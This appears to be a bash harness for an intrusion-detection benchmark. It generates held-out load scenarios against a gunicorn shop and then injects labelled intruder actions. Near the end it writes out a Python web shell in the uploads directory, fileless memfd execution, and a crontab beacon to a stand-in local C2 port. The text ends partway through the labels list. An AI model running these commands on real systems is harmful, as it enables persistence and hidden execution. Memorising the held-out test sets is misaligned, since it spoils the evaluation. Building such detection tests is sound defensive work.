  local r=$HELDOUT8_ROUND i u=http://127.0.0.1:$GUNICORN_PORT a
  local paths=(/ /api/health /export?fmt=csv /static/css/site.css /static/js/shop.js)
  [ "$GUNI_HELDOUT8_STOCK" = 0 ] || paths+=("/api/stock/$((1 + r % 200))" "/api/stock/$((1 + r * 7 % 200))")
  for i in $(seq $((1 + r % 11)) 11 200); do paths+=("/items/$i"); done
  for i in $(seq $((1 + r % 6)) 6 30); do paths+=("/static/img/$i.png"); done
  heldout8_get "$GUNICORN_PORT" "${paths[@]}"
  a=$(heldout8_addr 4)
  case $((r % 6)) in
    0) head -c 6000000 /dev/urandom | curl -s --interface "$a" --data-binary @- "$u/upload/archive-$r.tar" ;;
    1) curl -s --interface "$a" "$u/items/$((90000000 + r))" ;;
    2) curl -s --interface "$a" "$u/export?fmt=CSV" ;;
    3) curl -s --interface "$a" "$u/items/1?filter=$(head -c 6000 /dev/zero | tr '\0' f)" ;;
    4) curl -s --interface "$a" -X DELETE "$u/upload/photo-1.jpg" ;;
    5) heldout3_raw "$GUNICORN_PORT" "$a" "POST /upload/partial-$r.bin HTTP/1.1\r\nHost: x\r\nContent-Length: 100000\r\n\r\nabcdef" 0.3 ;;
  esac >/dev/null 2>&1 || true
}
gunicorn_heldout8_maint() {
  gunicorn_job report --fmt json --items 120
  gunicorn_job cleanup --older-than 15
}
gunicorn_heldout8_change() {
  cat >"$GUNI_APP/pricing.py" <<'PY'
"""Stock rules of the shop (release 1.4)."""


def in_stock(record):
    return record["price"] % 7 != 0
PY
  cat >>"$GUNI_APP/app.py" <<'PY'


import pricing


@app.route("/api/stock/<int:item>")
def stock(item):
    try:
        with open(os.path.join(DATA, "items", "%d.json" % item)) as f:
            return jsonify(item=item, in_stock=pricing.in_stock(json.load(f)))
    except FileNotFoundError:
        abort(404)
PY
  kill -HUP "$GUNI_PID"
  until_ok curl -sf "http://127.0.0.1:$GUNICORN_PORT/api/stock/1"
  GUNI_HELDOUT8_STOCK=1
}
gunicorn_heldout8_late() {
  local i pids=() u=http://127.0.0.1:$GUNICORN_PORT
  for i in $(seq 1 8); do
    head -c 40000 /dev/urandom | curl -s --max-time 8 --interface "$(heldout8_addr $((50 + i)))" --data-binary @- \
      "$u/upload/scan-$i.tiff" >/dev/null &
    pids+=($!)
  done
  sleep 0.2
  heldout3_kill_worker "$GUNI_PID"
  wait "${pids[@]}" || true
}

# Held out, ninth set (heldout9). No deploy. Clients from 127.0.7.1-250 for every fifteenth
# item and every seventh image (another offset each round), a JSON export, the assets, and
# (once it exists) the search API; each round one more request in turn: a 2.5 MB
# `survey-N.json` upload (accepted), an item id with leading zeros, HEAD on the upload route
# (405), an upload under a 300-character name (the application fails: 500), a request line
# with HTTP/1.7 (400), a 400 kB `doc-N.pdf` upload sent with Expect: 100-continue. The
# maintenance: the job with other arguments (`report --fmt csv --items 180`, `cleanup
# --older-than 25`). The change: a code release (root, in the code directory): a search
# API in app.py (`/api/search?q=`, which lists the item directory and reads the records),
# then a graceful reload (HUP) from outside. The late event: the logs rotated into
# log/archive/ with a date in their names (logrotate's olddir), USR1 to the master (it
# reopens them), the rotated files compressed, then a round.
gunicorn_heldout9_deploy() { :; }
GUNI_HELDOUT9_SEARCH=0
gunicorn_heldout9_mix() {
  local r=$HELDOUT9_ROUND i u=http://127.0.0.1:$GUNICORN_PORT a
  local paths=(/ /api/health /export?fmt=json /static/css/site.css /static/js/shop.js)
  [ "$GUNI_HELDOUT9_SEARCH" = 0 ] || paths+=("/api/search?q=item+$((r % 20))")
  for i in $(seq $((1 + r % 15)) 15 200); do paths+=("/items/$i"); done
  for i in $(seq $((1 + r % 7)) 7 30); do paths+=("/static/img/$i.png"); done
  heldout9_get "$GUNICORN_PORT" "${paths[@]}"
  a=$(heldout9_addr 4)
  case $((r % 6)) in
    0) head -c 2500000 /dev/urandom | curl -s --interface "$a" --data-binary @- "$u/upload/survey-$r.json" ;;
    1) curl -s --interface "$a" "$u/items/$(printf %05d $((1 + r % 200)))" ;;
    2) curl -s --interface "$a" -I "$u/upload/photo-1.jpg" ;;
    3) head -c 1000 /dev/urandom | curl -s --interface "$a" --data-binary @- "$u/upload/$(head -c 300 /dev/zero | tr '\0' n).txt" ;;
    4) heldout3_raw "$GUNICORN_PORT" "$a" 'GET /items/3 HTTP/1.7\r\nHost: x\r\n\r\n' ;;
    5) head -c 400000 /dev/urandom | curl -s --interface "$a" -H 'Expect: 100-continue' --data-binary @- "$u/upload/doc-$r.pdf" ;;
  esac >/dev/null 2>&1 || true
}
gunicorn_heldout9_maint() {
  gunicorn_job report --fmt csv --items 180
  gunicorn_job cleanup --older-than 25
}
gunicorn_heldout9_change() {
  cat >>"$GUNI_APP/app.py" <<'PY'


@app.route("/api/search")
def search():
    q = request.args.get("q", "").strip().lower()
    hits = []
    for name in sorted(os.listdir(os.path.join(DATA, "items")))[:200]:
        with open(os.path.join(DATA, "items", name)) as f:
            record = json.load(f)
        if q and q in record["name"]:
            hits.append(record["id"])
    return jsonify(q=q, hits=hits[:20])
PY
  kill -HUP "$GUNI_PID"
  until_ok curl -sf "http://127.0.0.1:$GUNICORN_PORT/api/search?q=item+1"
  GUNI_HELDOUT9_SEARCH=1
}
gunicorn_heldout9_late() {
  local f stamp
  stamp=$(date +%Y%m%d-%H%M%S)
  mkdir -p "$GUNI_DIR/log/archive"
  for f in access error; do mv "$GUNI_DIR/log/$f.log" "$GUNI_DIR/log/archive/$f-$stamp.log"; done
  kill -USR1 "$GUNI_PID"
  until_ok test -e "$GUNI_DIR/log/access.log"
  gzip "$GUNI_DIR/log/archive/access-$stamp.log" "$GUNI_DIR/log/archive/error-$stamp.log"
  HELDOUT9_ROUND=$((HELDOUT9_ROUND + 1))
  gunicorn_heldout9_mix
}

# Held out, tenth set (heldout10). No deploy. Clients from 127.0.8.1-250 for every
# thirteenth item and every eighth image (another offset each round), a CSV export, the
# assets, and (once they exist) an item's reviews; each round a small `receipt-N.png`
# upload, and one more request in turn: a 6 MB `backup-N.tar` upload (accepted), a POST to
# an item (405), an export in a format the application refuses (400), an upload that stops
# after 1 kB of its declared 100 kB and hangs up, a request with a 9 kB header (gunicorn
# refuses it: 400), a file under /static/ that does not exist (404). The change, early: a
# code release (root, in the code directory): item reviews (`/items/<id>/reviews`, reading
# data/reviews/<id>.json, a new directory with 50 records), then a graceful reload (HUP)
# from outside. The late event: the service restarted by its service manager (TERM to the
# master, then started again), then a round. The maintenance: the job with other arguments
# (`report --fmt json --items 77`, `cleanup --older-than 35`).
gunicorn_heldout10_deploy() { :; }
GUNI_HELDOUT10_REVIEWS=0
gunicorn_heldout10_mix() {
  local r=$HELDOUT10_ROUND i u=http://127.0.0.1:$GUNICORN_PORT a
  local paths=(/ /api/health /export?fmt=csv /static/css/site.css /static/js/shop.js)
  [ "$GUNI_HELDOUT10_REVIEWS" = 0 ] || paths+=("/items/$((1 + r % 50))/reviews" "/items/$((51 + r % 9))/reviews")
  for i in $(seq $((1 + r % 13)) 13 200); do paths+=("/items/$i"); done
  for i in $(seq $((1 + r % 8)) 8 30); do paths+=("/static/img/$i.png"); done
  heldout10_get "$GUNICORN_PORT" "${paths[@]}"
  a=$(heldout10_addr 5)
  head -c 3000 /dev/urandom | curl -s --interface "$a" --data-binary @- "$u/upload/receipt-$r.png" >/dev/null 2>&1 || true
  case $((r % 6)) in
    0) head -c 6000000 /dev/urandom | curl -s --interface "$a" --data-binary @- "$u/upload/backup-$r.tar" ;;
    1) curl -s --interface "$a" -d 'price=1' "$u/items/$((1 + r % 200))" ;;
    2) curl -s --interface "$a" "$u/export?fmt=xml" ;;
    3) heldout3_raw "$GUNICORN_PORT" "$a" "POST /upload/cut-$r.bin HTTP/1.1\r\nHost: x\r\nContent-Length: 100000\r\n\r\n$(head -c 1024 /dev/zero | tr '\0' c)" 0.3 ;;
    4) curl -s --interface "$a" -H "X-Trace: $(head -c 9000 /dev/zero | tr '\0' t)" "$u/items/5" ;;
    5) curl -s --interface "$a" "$u/static/img/$((100 + r)).png" ;;
  esac >/dev/null 2>&1 || true
}
gunicorn_heldout10_change() {
  local i
  mkdir -p "$GUNI_DATA/reviews"
  for i in $(seq 1 50); do printf '[{"stars": %d, "text": "review of %d"}]\n' $((1 + i % 5)) "$i" >"$GUNI_DATA/reviews/$i.json"; done
  cat >>"$GUNI_APP/app.py" <<'PY'


@app.route("/items/<int:item>/reviews")
def reviews(item):
    try:
        with open(os.path.join(DATA, "reviews", "%d.json" % item)) as f:
            return jsonify(item=item, reviews=json.load(f))
    except FileNotFoundError:
        return jsonify(item=item, reviews=[])
PY
  kill -HUP "$GUNI_PID"
  until_ok curl -sf "http://127.0.0.1:$GUNICORN_PORT/items/1/reviews"
  GUNI_HELDOUT10_REVIEWS=1
}
gunicorn_heldout10_maint() {
  gunicorn_job report --fmt json --items 77
  gunicorn_job cleanup --older-than 35
}
gunicorn_heldout10_late() {
  gunicorn_stop
  gunicorn_start
  HELDOUT10_ROUND=$((HELDOUT10_ROUND + 1))
  gunicorn_heldout10_mix
}

# Held out, eleventh set (heldout11). Deployed before the start: a settings file
# (gunicorn.conf.py, root-owned: timeout, keep-alive, graceful timeout, a request-field
# limit) that gunicorn reads at its start (`--config`). Clients from 127.0.9.1-250 for every
# ninth item and every sixth image (another offset each round), a JSON export and the
# assets; each round one more request in turn: a 4 MB `video-N.mp4` upload (accepted), an
# item that is no number (404), a request with 60 header lines (refused with 400 once the
# change lowers the limit), a chunked 200 kB upload, HEAD of a JSON export, an upload under
# a name with a percent sign (400). The maintenance, early: the job with other arguments
# (`report --fmt csv --items 190`, `cleanup --older-than 5`). The change, in the middle: the
# settings file edited (workers recycled after 40-50 requests, `keepalive 5`, at most 50
# header fields) and HUP to the master from outside (it reads the file again and replaces
# its workers). The late event: a cache
# warm-up, every item and image fetched once over four keep-alive connections (the workers
# recycle as they reach their request limit).
gunicorn_heldout11_deploy() {
  GUNI_CONF=$GUNI_DIR/gunicorn.conf.py
  cat >"$GUNI_CONF" <<'PY'
# The shop's gunicorn settings (read at the start and at each HUP).
timeout = 30
keepalive = 2
graceful_timeout = 10
limit_request_fields = 100
PY
}
gunicorn_heldout11_mix() {
  local r=$HELDOUT11_ROUND i u=http://127.0.0.1:$GUNICORN_PORT a h=()
  local paths=(/ /api/health /export?fmt=json /static/css/site.css /static/js/shop.js)
  mapfile -t -O "${#paths[@]}" paths < <(every_nth /items/ 9 200 "$r"; every_nth /static/img/ 6 30 "$r" .png)
  heldout11_get "$GUNICORN_PORT" "${paths[@]}"
  a=$(heldout11_addr 5)
  case $((r % 6)) in
    0) head -c 4000000 /dev/urandom | curl -s --interface "$a" --data-binary @- "$u/upload/video-$r.mp4" ;;
    1) curl -s --interface "$a" "$u/items/abc" ;;
    2) for i in $(seq 1 60); do h+=(-H "X-Tag-$i: $i"); done; curl -s --interface "$a" "${h[@]}" "$u/items/7" ;;
    3) head -c 200000 /dev/urandom | curl -s --interface "$a" -H 'Transfer-Encoding: chunked' --data-binary @- "$u/upload/chunks-$r.bin" ;;
    4) curl -s --interface "$a" -I "$u/export?fmt=json" ;;
    5) curl -s --interface "$a" --data-binary 'x' "$u/upload/bad%25name-$r.bin" ;;
  esac >/dev/null 2>&1 || true
}
gunicorn_heldout11_maint() { gunicorn_job report --fmt csv --items 190; gunicorn_job cleanup --older-than 5; }
gunicorn_heldout11_change() {
  cat >>"$GUNI_CONF" <<'PY'
# Workers recycled after 40-50 requests; a longer keep-alive; fewer header fields.
max_requests = 40
max_requests_jitter = 10
keepalive = 5
limit_request_fields = 50
PY
  kill -HUP "$GUNI_PID"
  until_ok gunicorn_heldout11_limited
}
# gunicorn_heldout11_limited: the new field limit is in force (60 header lines: 400).
gunicorn_heldout11_limited() {
  local i h=()
  for i in $(seq 1 60); do h+=(-H "X-Tag-$i: $i"); done
  [ "$(curl -s -o /dev/null -w '%{http_code}' "${h[@]}" "http://127.0.0.1:$GUNICORN_PORT/api/health")" = 400 ]
}
gunicorn_heldout11_late() {
  local i paths=()
  for i in $(seq 1 200); do paths+=("/items/$i"); done
  for i in $(seq 1 30); do paths+=("/static/img/$i.png"); done
  heldout11_crawl "$GUNICORN_PORT" 4 "${paths[@]}"
}

# Held out, twelfth set (heldout12). No deploy. Clients from 127.0.10.1-250 for every
# seventh item and every fifth image (another offset each round), a CSV export and the
# stylesheet, and, once the change is in, a search; each round one more request in turn:
# an empty upload (accepted: a 0-byte file), `/items/-1` (404), a 2.5 MB `scan-N.tiff`
# upload, a header value of 9 kB (over gunicorn's field size limit: 400), `/export?fmt=xml`
# (400), an HTTP/1.0 request without Host. The change, in the first seconds while the
# clients are busy: a code release (app.py gets a `/search` endpoint that reads the first 60
# item files) and HUP to the master from outside (new workers load the new code). The
# maintenance, in the middle: the job with other arguments (`report --fmt csv --items 60`,
# `cleanup --older-than 45`). The late event: a second worker pool, a canary instance of
# the same application (its own gunicorn master with one worker on 127.0.0.1:18001, its own
# pid and log files), started in the cgroup as www-data; from then on each round also sends
# the home page, an item and a search to it.
GUNICORN_CANARY_PORT=18001
GUNICORN_HELDOUT12_SEARCH=0
GUNICORN_HELDOUT12_CANARY=0
gunicorn_heldout12_deploy() { :; }
gunicorn_heldout12_mix() {
  local r=$HELDOUT12_ROUND u=http://127.0.0.1:$GUNICORN_PORT a c=http://127.0.0.1:$GUNICORN_CANARY_PORT
  local paths=(/export?fmt=csv /static/css/site.css)
  [ "$GUNICORN_HELDOUT12_SEARCH" = 0 ] || paths+=("/search?q=item+$((r % 20))")
  mapfile -t -O "${#paths[@]}" paths < <(every_nth /items/ 7 200 "$r"; every_nth /static/img/ 5 30 "$r" .png)
  heldout12_get "$GUNICORN_PORT" "${paths[@]}"
  a=$(heldout12_addr 5)
  if [ "$GUNICORN_HELDOUT12_CANARY" = 1 ]; then
    curl -s --interface "$a" "$c/" "$c/items/$((1 + r % 200))" "$c/search?q=item+$((r % 9))" >/dev/null 2>&1 || true
  fi
  case $((r % 6)) in
    0) curl -s --interface "$a" --data-binary '' "$u/upload/empty-$r.bin" ;;
    1) curl -s --interface "$a" "$u/items/-1" ;;
    2) head -c 2500000 /dev/urandom | curl -s --interface "$a" --data-binary @- "$u/upload/scan-$r.tiff" ;;
    3) curl -s --interface "$a" -H "X-Trace: $(head -c 9000 /dev/zero | tr '\0' t)" "$u/items/3" ;;
    4) curl -s --interface "$a" "$u/export?fmt=xml" ;;
    5) heldout3_raw "$GUNICORN_PORT" "$a" 'GET /items/5 HTTP/1.0\r\n\r\n' ;;
  esac >/dev/null 2>&1 || true
}
gunicorn_heldout12_change() {
  cat >>"$GUNI_APP/app.py" <<'PY'


@app.route("/search")
def search():
    q = request.args.get("q", "")
    hits = []
    for name in sorted(os.listdir(os.path.join(DATA, "items")))[:60]:
        with open(os.path.join(DATA, "items", name)) as f:
            row = json.load(f)
        if q in row["name"]:
            hits.append(row)
    return jsonify(hits=hits)
PY
  kill -HUP "$GUNI_PID"
  until_ok curl -sf "http://127.0.0.1:$GUNICORN_PORT/search?q=item+1"
  GUNICORN_HELDOUT12_SEARCH=1
}
gunicorn_heldout12_maint() { gunicorn_job report --fmt csv --items 60; gunicorn_job cleanup --older-than 45; }
gunicorn_heldout12_late() {
  if ss -Hltn "sport = :$GUNICORN_CANARY_PORT" | grep -q .; then die "port $GUNICORN_CANARY_PORT is in use"; fi
  launch gunicorn www-data /usr/bin/gunicorn --chdir "$GUNI_APP" --bind "127.0.0.1:$GUNICORN_CANARY_PORT" \
    --workers 1 --pid "$GUNI_DIR/run/canary.pid" --access-logfile "$GUNI_DIR/log/canary-access.log" \
    --error-logfile "$GUNI_DIR/log/canary-error.log" app:app
  until_ok curl -sf "http://127.0.0.1:$GUNICORN_CANARY_PORT/api/health"
  GUNICORN_HELDOUT12_CANARY=1
}

# Held out, thirteenth set (heldout13). No deploy. Clients from 127.0.11.1-250 for every
# thirteenth item and every seventh image (another offset each round), the home page, a JSON
# export and the assets, and, once the change is in, the guides; one more request in turn: a
# 1.2 MB `photo-N.heic` upload (accepted), an item with a trailing slash (404), an export with
# its format given twice, a chunked upload with no body, OPTIONS of an item, a path with a
# `..` segment out of /static. The maintenance, at the very start: the job with other
# arguments (`report --fmt json --items 30`, `cleanup --older-than 120`). The restart, in the
# middle: a quick shutdown (INT to the master) and a start. The change, late: a new
# directory of content, `static/guides/` (eight HTML guides and a 200 kB PDF), copied in by
# the deploy tool (root, from outside; no reload: Flask serves static files as they are).
gunicorn_heldout13_deploy() { :; }
GUNICORN_HELDOUT13_GUIDES=0
gunicorn_heldout13_mix() {
  local r=$HELDOUT13_ROUND u=http://127.0.0.1:$GUNICORN_PORT
  local paths=(/ /export?fmt=json /static/css/site.css /static/js/shop.js)
  [ "$GUNICORN_HELDOUT13_GUIDES" = 0 ] || mapfile -t -O "${#paths[@]}" paths < <(every_nth /static/guides/g 3 8 "$r" .html; echo /static/guides/handbook.pdf)
  mapfile -t -O "${#paths[@]}" paths < <(every_nth /items/ 13 200 "$r"; every_nth /static/img/ 7 30 "$r" .png)
  heldout13_get "$GUNICORN_PORT" "${paths[@]}"
  # The round's one more request, as curl's arguments (stdin: the upload, or nothing).
  local odd=()
  case $((r % 6)) in
    0) odd=(--data-binary @- "$u/upload/photo-$r.heic") ;;
    1) odd=("$u/items/12/") ;;
    2) odd=("$u/export?fmt=csv&fmt=json") ;;
    3) odd=(-H 'Transfer-Encoding: chunked' --data-binary '' "$u/upload/empty-$r.bin") ;;
    4) odd=(-X OPTIONS "$u/items/3") ;;
    5) odd=(--path-as-is "$u/static/../app.py") ;;
  esac
  head -c $((r % 6 == 0 ? 1200000 : 0)) /dev/urandom | heldout13_curl 5 "${odd[@]}"
}
gunicorn_heldout13_maint() { gunicorn_job report --fmt json --items 30; gunicorn_job cleanup --older-than 120; }
gunicorn_heldout13_restart() { heldout13_restart gunicorn GUNI_PID INT; }
gunicorn_heldout13_change() {
  local d=$GUNI_APP/static/guides i
  mkdir -p "$d"
  for i in $(seq 1 8); do echo "<html><body>guide $i</body></html>" >"$d/g$i.html"; done
  head -c 200000 /dev/urandom >"$d/handbook.pdf"
  until_ok curl -sf "http://127.0.0.1:$GUNICORN_PORT/static/guides/g1.html"
  GUNICORN_HELDOUT13_GUIDES=1
}

# gunicorn_settings LINE...: a phase's deploy: gunicorn reads the settings file
# gunicorn.conf.py, with the LINEs, at its start and at each HUP.
gunicorn_settings() {
  GUNI_CONF=$GUNI_DIR/gunicorn.conf.py
  printf '%s\n' "# The shop's gunicorn settings (read at the start and at each HUP)." "$@" >"$GUNI_CONF"
}

# Held out, fourteenth set (heldout14). Deployed before the start: a settings file
# (`gunicorn.conf.py`, `loglevel = "info"`). Clients from 127.0.12.1-240 for every eleventh
# item and every sixth image (another offset each round), the home page, the health check, a
# CSV export and the assets; one more request in turn: an upload whose name has a space and
# a `!` (400), an export in a format it does not know (400), HEAD of an item, an item number
# too large for any integer (404), a conditional GET of the stylesheet with a date in the
# future (304), a 300 kB `scan-N.pdf` upload (accepted). The change, early: the log made
# verbose (`loglevel = "debug"` in the settings file), HUP to the master from outside (it
# reads the file again and replaces its workers). The maintenance, in the middle while the
# load goes on: the job with other arguments (`report --fmt csv --items 120`, `cleanup
# --older-than 300`). The reload, late: HUP to the master with the code and settings
# unchanged (new workers). The tail: three long-lived clients from 127.0.12.241-250, an item
# or an image every ~1.2 s (gunicorn's sync workers close each connection).
gunicorn_heldout14_deploy() {
  gunicorn_settings 'loglevel = "info"'
}
gunicorn_heldout14_mix() {
  local r=$HELDOUT14_ROUND u=http://127.0.0.1:$GUNICORN_PORT
  local paths=(/ /api/health /export?fmt=csv /static/css/site.css /static/js/shop.js)
  mapfile -t -O "${#paths[@]}" paths < <(every_nth /items/ 11 200 "$r"; every_nth /static/img/ 6 30 "$r" .png)
  heldout14_get "$GUNICORN_PORT" "${paths[@]}"
  # The round's one more request, as curl's arguments (stdin: the upload, or nothing).
  local odd=()
  case $((r % 6)) in
    0) odd=(--data-binary 'x' "$u/upload/bad%20name%21.txt") ;;
    1) odd=("$u/export?fmt=xml") ;;
    2) odd=(-I "$u/items/$((1 + r % 200))") ;;
    3) odd=("$u/items/99999999999999999999") ;;
    4) odd=(-H 'If-Modified-Since: Fri, 01 Jan 2038 00:00:00 GMT' "$u/static/css/site.css") ;;
    5) odd=(--data-binary @- "$u/upload/scan-$r.pdf") ;;
  esac
  head -c $((r % 6 == 5 ? 300000 : 0)) /dev/urandom | heldout14_curl 5 "${odd[@]}"
}
gunicorn_heldout14_change() {
  sed -i 's|^loglevel = "info"$|loglevel = "debug"|' "$GUNI_CONF"
  grep -qx 'loglevel = "debug"' "$GUNI_CONF" || die "gunicorn heldout14: settings not changed"
  heldout14_reload HUP "$GUNI_PID" curl -sf "http://127.0.0.1:$GUNICORN_PORT/api/health"
}
gunicorn_heldout14_maint() { gunicorn_job report --fmt csv --items 120; gunicorn_job cleanup --older-than 300; }
gunicorn_heldout14_reload() { heldout14_reload HUP "$GUNI_PID" curl -sf "http://127.0.0.1:$GUNICORN_PORT/api/health"; }
gunicorn_heldout14_tail() {
  heldout14_linger "$GUNICORN_PORT" "$1" / /items/14 /static/img/8.png /items/131 /api/health /items/77 \
    /static/img/21.png /items/190
}

# Held out, fifteenth set (heldout15). Deployed before the start: a settings file
# (`gunicorn.conf.py`, `timeout = 30`). Clients from 127.0.14.1-250 for every ninth item and
# every fifth image (another offset each round), the home page, the health check and a JSON
# export; one more client in turn (heldout15_odd, as for nginx). The maintenance, first,
# while the full load is on: the resolved settings printed by the operator inside the cgroup
# (`gunicorn --print-config`, www-data) and the job purging everything older than 10 s
# (`cleanup --older-than 10`). The restart, in the middle: gunicorn has no stop command of
# its own; a graceful stop (TERM), its configuration checked inside the cgroup (`gunicorn
# --check-config`) and a start. The change, last: workers recycled after 20-25 requests
# (`max_requests = 20`, `max_requests_jitter = 5` in the settings file), HUP from outside.
gunicorn_heldout15_deploy() { gunicorn_settings 'timeout = 30'; }
gunicorn_heldout15_mix() {
  local r=$HELDOUT15_ROUND
  local paths=(/ /api/health /export?fmt=json)
  mapfile -t -O "${#paths[@]}" paths < <(every_nth /items/ 9 200 "$r"; every_nth /static/img/ 5 30 "$r" .png)
  heldout15_get "$GUNICORN_PORT" "${paths[@]}"
  heldout15_odd "$GUNICORN_PORT" /items/7 "/static/img/$((1 + r % 30)).png"
}
# gunicorn_ctl ARG...: gunicorn's own command line on the application, by the operator inside
# the cgroup (www-data).
gunicorn_ctl() { admin gunicorn www-data /usr/bin/gunicorn --config "$GUNI_CONF" --chdir "$GUNI_APP" "$@" app:app; }
gunicorn_heldout15_maint() { gunicorn_ctl --print-config; gunicorn_job cleanup --older-than 10; }
gunicorn_heldout15_restart() { heldout15_checked_restart gunicorn gunicorn_ctl --check-config; }
gunicorn_heldout15_change() {
  printf '%s\n' 'max_requests = 20' 'max_requests_jitter = 5' >>"$GUNI_CONF"
  heldout14_reload HUP "$GUNI_PID" curl -sf "http://127.0.0.1:$GUNICORN_PORT/api/health"
}

# Held out, sixteenth set (heldout16). Deployed before the start: a settings file
# (`gunicorn.conf.py`, `graceful_timeout = 15`). Clients from 127.0.16.1-250 for every
# thirteenth item and every seventh image (another offset each round), the home page, the
# health check and the stylesheet, and once they are released the hashed assets; in the quiet start
# one slow client (heldout16_get); one more client in turn (heldout16_odd, as for nginx). The
# change, early: keep-alive connections held 10 s and larger request header limits
# (`keepalive`, `limit_request_field_size` in the settings file), HUP from outside (the
# unit's reload). The second change, two thirds in: a static release with content-hashed
# names (`static/css/site.5e1f.css`, `static/js/app.5e1f.js`, written and renamed into place
# from outside). The maintenance, last: the application's bytecode cache warmed by the
# operator inside the cgroup (`python3 -m compileall` on the code directory, root). Then a
# clean shutdown (TERM: the workers finish their requests).
GUNI_HELDOUT16_HASHED=0
gunicorn_heldout16_deploy() {
  GUNI_HELDOUT16_HASHED=0
  gunicorn_settings 'graceful_timeout = 15'
}
gunicorn_heldout16_mix() {
  local r=$HELDOUT16_ROUND
  local paths=(/ /api/health /static/css/site.css)
  mapfile -t -O "${#paths[@]}" paths < <(every_nth /items/ 13 200 "$r"; every_nth /static/img/ 7 30 "$r" .png)
  [ "$GUNI_HELDOUT16_HASHED" = 0 ] || paths+=(/static/css/site.5e1f.css /static/js/app.5e1f.js)
  heldout16_get "$GUNICORN_PORT" "${paths[@]}"
  heldout16_odd "$GUNICORN_PORT" /items/9
}
gunicorn_heldout16_change() {
  printf '%s\n' 'keepalive = 10' 'limit_request_field_size = 16380' >>"$GUNI_CONF"
  heldout14_reload HUP "$GUNI_PID" curl -sf "http://127.0.0.1:$GUNICORN_PORT/api/health"
}
gunicorn_heldout16_second() {
  local s=$GUNI_APP/static
  mkdir -p "$s/css" "$s/js"
  echo "body { color: #222; margin: 0 }" >"$s/css/.site.5e1f.css.tmp"
  echo "console.log('app 5e1f')" >"$s/js/.app.5e1f.js.tmp"
  mv "$s/css/.site.5e1f.css.tmp" "$s/css/site.5e1f.css"
  mv "$s/js/.app.5e1f.js.tmp" "$s/js/app.5e1f.js"
  GUNI_HELDOUT16_HASHED=1
}
gunicorn_heldout16_maint() { admin gunicorn root /usr/bin/python3 -m compileall -q "$GUNI_APP"; }

# Held out, seventeenth set (heldout17). Deployed before the start, besides the clients' /24
# (127.0.23.1-250): the application's next release of its management script, with two more
# commands (`check`: every item record parsed and its id matched with its file name, a
# consistency check; `backup`: the item records and reports copied, while the site runs, into
# a dated directory data/backups/YYYYMMDD/HHMMSS/), and a settings file (`gunicorn.conf.py`:
# the workers' heartbeat files in /dev/shm, `worker_tmp_dir`, as gunicorn's documentation
# advises). A cold start under load: gunicorn starts inside the recording while clients
# already retry (heldout17_begin). Clients for every nineteenth item and every third image
# (another offset each round), the home page, the health check, the stylesheet and a JSON
# export, as many at a time as the slow wave's load; one more client in turn (heldout17_odd,
# as for nginx: the stylesheet, an image, eight at once on an item, a note uploaded with a
# chunked body). The maintenance, early: `manage.py check` (www-data, inside the cgroup, as
# its cron entry would). The change, in the middle, by a full restart (TERM, start): the
# application loaded once in the master before the workers fork (`preload_app`, which a HUP
# does not apply) and threaded workers (`worker_class = "gthread"`, `threads = 4`: keep-alive
# connections from then on). The maintenance, late, while the load falls: `manage.py backup`.
# The recording ends with load still running.
gunicorn_heldout17_deploy() {
  local m=$GUNI_APP/manage.py
  HELDOUT17_NET=127.0.23
  gunicorn_settings 'worker_tmp_dir = "/dev/shm"'
  mkdir -p "$GUNI_DATA/backups"
  chown www-data:www-data "$GUNI_DATA/backups"
  cat >"$m.commands" <<'PY'
sub.add_parser("check")
k = sub.add_parser("backup")
k.add_argument("--into", default=os.path.join(DATA, "backups"))
PY
  cat >"$m.run" <<'PY'

if args.cmd == "check":
    paths = glob.glob(os.path.join(DATA, "items", "*.json"))
    bad = 0
    for path in paths:
        with open(path) as f:
            if "%d.json" % json.load(f)["id"] != os.path.basename(path):
                bad += 1
    print("%d records, %d misnamed" % (len(paths), bad))
    raise SystemExit(1 if bad else 0)
if args.cmd == "backup":
    import shutil
    dest = os.path.join(args.into, time.strftime("%Y%m%d"), time.strftime("%H%M%S"))
    for part in ("items", "reports"):
        shutil.copytree(os.path.join(DATA, part), os.path.join(dest, part))
    raise SystemExit(0)
PY
  awk -v pre="$m.commands" -v post="$m.run" '
    $0 == "args = parser.parse_args()" {
      while ((getline l < pre) > 0) print l
      print
      while ((getline l < post) > 0) print l
      next
    }
    { print }' "$m" >"$m.new"
  rm -f "$m.commands" "$m.run"
  grep -q 'add_parser("backup")' "$m.new" || die "gunicorn heldout17: manage.py not released"
  mv "$m.new" "$m"
}
gunicorn_heldout17_mix() {
  local r=$HELDOUT17_ROUND
  local paths=(/ /api/health /static/css/site.css /export?fmt=json)
  mapfile -t -O "${#paths[@]}" paths < <(every_nth /items/ 19 200 "$r"; every_nth /static/img/ 3 30 "$r" .png)
  heldout17_get "$GUNICORN_PORT" "${paths[@]}"
  heldout17_odd "$GUNICORN_PORT" /static/css/site.css "/static/img/$((1 + r % 30)).png" "/items/$((1 + r % 200))" \
    "/upload/note-$r.txt"
}
gunicorn_heldout17_early() { gunicorn_job check; }
gunicorn_heldout17_change() {
  gunicorn_stop
  printf '%s\n' 'preload_app = True' 'worker_class = "gthread"' 'threads = 4' >>"$GUNI_CONF"
  gunicorn_start
}
gunicorn_heldout17_late() { gunicorn_job backup; }


# The intruder's script as www-data in the served upload directory, then: a web shell
# written next to the uploads and run by python3, fileless execution (memfd_create and
# execve of the memfd: fexecve), and a crontab for www-data (crontab -).
gunicorn_more() {
  cat <<SH
printf 'import os\nos.system("id")\n' >$GUNI_UPLOADS/cmd.py
/usr/bin/python3 $GUNI_UPLOADS/cmd.py >/dev/null
/usr/bin/python3 -c 'import os; fd = os.memfd_create("x"); os.write(fd, open("/usr/bin/id", "rb").read()); os.execve(fd, ["x"], {})' >/dev/null
echo '*/5 * * * * /bin/sh -c "exec 3<>/dev/tcp/127.0.0.1/$C2_PORT"' | crontab -
SH
}
gunicorn_inject() { inject_shell gunicorn www-data "$GUNI_UPLOADS" "$(gunicorn_more)"; }
gunicorn_labels() {
  write_labels gunicorn "$GUNI_UPLOADS" ",
  {\"kind\": \"file\", \"subject\": \"$GUNI_UPLOADS/cmd.py\", \"what\": \"a python web shell written into the served directory\"},
  {\"kind\": \"exec\", \"subject\": \"*memfd*\", \"what\": \"fileless execution: id copied into a memfd and executed from it (fexecve)\"},
  {\"kind\": \"exec\", \"subject\": \"*/python3*\", \"what\": \"the intruder's shell starts python3 (the web shell, the fileless exec)\"},
  {\"kind\": \"file\", \"subject\": \"/usr/bin/id\", \"required\": false, \"what\": \"python3 reads id to copy it into the memfd\"},
